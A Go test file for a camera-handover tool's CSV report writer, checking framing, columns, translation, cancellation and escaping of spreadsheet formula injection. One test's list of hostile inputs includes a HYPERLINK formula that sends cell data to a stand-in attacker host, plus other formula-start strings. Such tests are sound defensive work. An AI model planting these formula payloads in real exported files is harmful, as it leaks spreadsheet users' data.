package report

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/openipu/openipu/core/handover"
)

// readCSV checks the file's framing (BOM, CRLF) and parses it.
func readCSV(t *testing.T, raw []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(raw, []byte(bom)) {
		t.Fatal("CSV does not start with a byte-order mark")
	}
	if !bytes.HasSuffix(raw, []byte("\r\n")) || bytes.Contains(bytes.ReplaceAll(raw, []byte("\r\n"), nil), []byte("\r")) {
		t.Error("CSV lines do not all end in CRLF")
	}
	r := csv.NewReader(bytes.NewReader(raw[len(bom):]))
	recs, err := r.ReadAll() // also checks every row has the header's column count
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

func column(t *testing.T, header []string, name string) int {
	t.Helper()
	for i, h := range header {
		if h == name {
			return i
		}
	}
	t.Fatalf("no column %q in %q", name, header)
	return -1
}

func TestReportCSVRoundTripsEveryCameraAndColumn(t *testing.T) {
	s, dir := sampleSession(t, 6)
	var b bytes.Buffer
	if err := WriteCSV(context.Background(), &b, s, sampleOptions(dir)); err != nil {
		t.Fatal(err)
	}
	recs := readCSV(t, b.Bytes())
	if len(recs) != 1+len(s.Cameras) {
		t.Fatalf("%d rows, want a header and %d cameras", len(recs), len(s.Cameras))
	}
	h := recs[0]
	if want := 16 + 5*len(handover.Steps); len(h) != want {
		t.Errorf("%d columns, want %d", len(h), want)
	}
	for i, c := range s.Cameras {
		row := recs[i+1]
		for col, want := range map[string]string{
			"Site": sampleSite, "Name": escapeCell(c.Name), "Location": c.Location, "MAC address": c.MAC,
			"Serial number": c.Serial, "Model": c.Model, "Firmware": c.Firmware, "Address": c.Address,
			"User name": "root", "Snapshot file": c.SnapshotFile,
		} {
			if got := row[column(t, h, col)]; got != want {
				t.Errorf("camera %d %s = %q, want %q", i, col, got, want)
			}
		}
	}
	row := func(i int, col string) string { return recs[i+1][column(t, h, col)] }
	// Multi-line, quoted and comma'd names come back whole.
	if got := row(0, "Name"); got != `Entrance, "main" door` {
		t.Errorf("name = %q", got)
	}
	// The session keeps names on one line; line breaks in cells are
	// covered by the camera list's test.
	if got := row(0, "Location"); got != "Ground floor lobby, east" {
		t.Errorf("location = %q", got)
	}
	if got := row(2, "Name"); !strings.HasPrefix(got, "'=HYPERLINK(") {
		t.Errorf("formula name came out as %q", got)
	}
	if got := row(0, "Clock offset (seconds)"); got != "-3.2" {
		t.Errorf("camera behind: offset %q, want the number -3.2, not escaped", got)
	}
	if got := row(5, "Clock offset (seconds)"); got != "73.2" {
		t.Errorf("camera ahead: offset %q", got)
	}
	if got := row(1, "Clock offset (seconds)"); got != "" {
		t.Errorf("clock never read: offset %q, want empty", got)
	}
	if got := row(1, "Steps still open"); got != "network clock snapshot" {
		t.Errorf("open steps = %q", got)
	}
	if got := row(1, "Network settings: problem"); got != "vapix.unreachable" {
		t.Errorf("failure key = %q", got)
	}
	if _, err := time.Parse(time.RFC3339, row(1, "Network settings: failed at")); err != nil {
		t.Errorf("failure time is not RFC 3339: %v", err)
	}
	if row(2, "Network settings: by hand") != "true" || row(2, "Network settings: detail") != "Set by the site's IT on the DHCP reservation" {
		t.Errorf("manual tick: %q %q", row(2, "Network settings: by hand"), row(2, "Network settings: detail"))
	}
	if row(3, "Left out") != "true" || row(3, "Handed over") != "false" || row(3, "Steps still open") != "" {
		t.Errorf("left-out camera: %q %q %q", row(3, "Left out"), row(3, "Handed over"), row(3, "Steps still open"))
	}
	if row(0, "Handed over") != "true" {
		t.Error("camera 0 should be handed over")
	}
	if got := row(0, "Password set: done at"); got != "2026-03-14T09:30:02Z" {
		t.Errorf("done at = %q", got)
	}
	if row(0, "Firmware differs") != "true" || row(4, "Firmware differs") != "false" {
		t.Error("firmware mix not flagged")
	}
	if bytes.Contains(b.Bytes(), []byte(samplePass)) {
		t.Error("the CSV holds a password")
	}
}

func TestCSVEscapesFormulaStartsAndQuotesSeparators(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+1", "-1+2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
		"  =1+1", "a,b", `say "hi"`, "two\nlines", "plain",
	}
	var rows []DeviceRow
	for _, h := range hostile {
		rows = append(rows, DeviceRow{Model: h, Name: h, Address: h, MAC: h, Serial: h, Firmware: h,
			PasswordState: h, Reachability: h, FoundVia: h, LastSeen: sampleNow})
	}
	var b bytes.Buffer
	if err := WriteDeviceListCSV(context.Background(), &b, rows, Options{Location: time.UTC}); err != nil {
		t.Fatal(err)
	}
	recs := readCSV(t, b.Bytes())
	if len(recs) != len(hostile)+1 || len(recs[0]) != 10 {
		t.Fatalf("%d rows of %d columns", len(recs), len(recs[0]))
	}
	want := map[string]string{
		hostile[0]: "'" + hostile[0], "+1": "'+1", "-1+2": "'-1+2", "@SUM(A1:A9)": "'@SUM(A1:A9)",
		"\t=1+1": "'\t=1+1", "\r=1+1": "'\n=1+1", "  =1+1": "'  =1+1",
		"a,b": "a,b", `say "hi"`: `say "hi"`, "two\nlines": "two\nlines", "plain": "plain",
	}
	for i, h := range hostile {
		for j, cell := range recs[i+1][:9] {
			if cell != want[h] {
				t.Errorf("%q in column %d came out as %q, want %q", h, j, cell, want[h])
			}
		}
		if recs[i+1][9] != "2026-03-14T16:45:00Z" {
			t.Errorf("last seen = %q", recs[i+1][9])
		}
	}
	for _, c := range recs[1:] {
		for _, cell := range c {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(strings.TrimLeft(cell, " ")[0])) {
				t.Errorf("cell %q starts like a formula", cell)
			}
		}
	}
}

func TestNumberCellsAreTrustedOnlyWhenTheyAreNumbers(t *testing.T) {
	var b bytes.Buffer
	tb, err := newCSVTable(&b, []string{"n"})
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range []numberCell{"-3.2", "0.0", "73.2", "-1+2", "=1"} {
		tb.number(n)
		if err := tb.end(); err != nil {
			t.Fatal(err)
		}
	}
	if err := tb.close(); err != nil {
		t.Fatal(err)
	}
	recs := readCSV(t, b.Bytes())
	want := []string{"-3.2", "0.0", "73.2", "'-1+2", "'=1"}
	for i, w := range want {
		if recs[i+1][0] != w {
			t.Errorf("number %d = %q, want %q", i, recs[i+1][0], w)
		}
	}
}

func TestCSVHeadingsAreTranslatedAndValuesAreNot(t *testing.T) {
	s, dir := sampleSession(t, 2)
	opts := sampleOptions(dir)
	opts.Translate = translateUpper
	var b bytes.Buffer
	if err := WriteCSV(context.Background(), &b, s, opts); err != nil {
		t.Fatal(err)
	}
	recs := readCSV(t, b.Bytes())
	if recs[0][5] != "MAC ADDRESS" {
		t.Errorf("heading = %q", recs[0][5])
	}
	if recs[1][5] != "ACCC8E0A0001" || recs[1][11] != "true" {
		t.Errorf("values changed by translation: %q", recs[1])
	}
}

func TestCSVStopsWhenCanceled(t *testing.T) {
	s, dir := sampleSession(t, 3)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if err := WriteCSV(ctx, &bytes.Buffer{}, s, sampleOptions(dir)); !errors.Is(err, context.Canceled) {
		t.Errorf("WriteCSV = %v", err)
	}
	if err := WriteDeviceListCSV(ctx, &bytes.Buffer{}, make([]DeviceRow, 3), Options{}); !errors.Is(err, context.Canceled) {
		t.Errorf("WriteDeviceListCSV = %v", err)
	}
}

// FuzzCSVCellRoundTrips: whatever text a camera or a user puts in a cell,
// the file parses back to the same number of cells, each the escaped
// text, and no cell starts like a formula.
func FuzzCSVCellRoundTrips(f *testing.F) {
	for _, s := range []string{"", "=1", "a,b", "\"", "x\r\ny", "\r", "\n\n", " -1", "\xff\xfe", "\uFEFF=1"} {
		f.Add(s, "second")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		var out bytes.Buffer
		rows := []DeviceRow{{Model: a, Name: b, Address: a + b}}
		if err := WriteDeviceListCSV(context.Background(), &out, rows, Options{Location: time.UTC}); err != nil {
			t.Fatal(err)
		}
		recs := readCSV(t, out.Bytes())
		if len(recs) != 2 || len(recs[1]) != 10 {
			t.Fatalf("%d rows", len(recs))
		}
		for i, in := range []string{a, b, a + b} {
			if got, want := recs[1][i], cleanCell(in); got != want {
				t.Errorf("cell %d: %q came back as %q, want %q", i, in, got, want)
			}
			if c := strings.TrimLeft(recs[1][i], " "); c != "" && strings.IndexByte(formulaStarts, c[0]) >= 0 {
				t.Errorf("cell %q starts like a formula", recs[1][i])
			}
		}
	})
}
